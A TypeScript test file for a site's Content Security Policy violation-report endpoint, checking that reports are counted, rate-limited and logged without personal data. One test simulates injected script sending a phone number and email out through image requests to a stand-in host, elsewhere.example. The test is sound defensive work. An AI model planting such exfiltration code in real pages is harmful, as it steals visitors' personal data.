import { eventually } from '../support/eventually.js';
import { openPage } from '../support/open-page.js';
import { startServer, type TestServer } from '../support/server.js';

let server: TestServer;
beforeAll(async () => {
  server = await startServer({ anew: true });
});
afterAll(() => server.stop());

const SAID = 'a content policy was violated in a browser';

it('tells us what a page’s policy kept it from, once for each kind, without address or person', async () => {
  const page = await openPage();
  await page.goto(`${server.url}/ihtiyac-kredisi?tutar=95000`);
  const answers: number[] = [];
  page.on('response', (response) => {
    if (response.url().endsWith('/icerik-ihlali')) answers.push(response.status());
  });
  // As code from elsewhere would: pictures that carry off what stands in the page.
  await page.evaluate(() => {
    for (const value of ['5321234567', 'ayse@ornek.test']) {
      const picture = new Image();
      picture.src = `https://elsewhere.example/a.png?kim=${value}`;
      document.body.append(picture);
    }
  });
  await eventually(() => Promise.resolve(answers.length === 2), 10_000);
  expect(answers).toEqual([204, 204]);
  const metrics = await (await fetch(`${server.url}/metrics`)).text();
  expect(metrics).toContain('content_policy_violations_total{directive="img-src",area="site"} 2');
  await eventually(() => Promise.resolve(server.logs().includes(SAID)), 5_000);
  const lines = server
    .logs()
    .split('\n')
    .filter((line) => line.includes(SAID));
  expect(lines).toHaveLength(1);
  expect(lines[0]).toContain('"blocked":"https://elsewhere.example"');
  expect(server.logs()).not.toMatch(/5321234567|ayse@ornek/);
});

// POST /icerik-ihlali
it('takes 120 a minute and no more, whoever sends them', async () => {
  const report = { 'csp-report': { 'effective-directive': 'font-src', 'blocked-uri': 'data' } };
  const send = () =>
    fetch(`${server.url}/icerik-ihlali`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/csp-report' },
      body: JSON.stringify(report),
    });
  const statuses = await Promise.all(Array.from({ length: 150 }, async () => (await send()).status));
  expect(new Set(statuses)).toEqual(new Set([204]));
  const metrics = await (await fetch(`${server.url}/metrics`)).text();
  const counted = /content_policy_violations_total\{directive="font-src",area="site"\} (\d+)/.exec(
    metrics,
  )?.[1];
  expect(Number(counted)).toBeLessThanOrEqual(120);
  expect(Number(counted)).toBeGreaterThan(100);
});
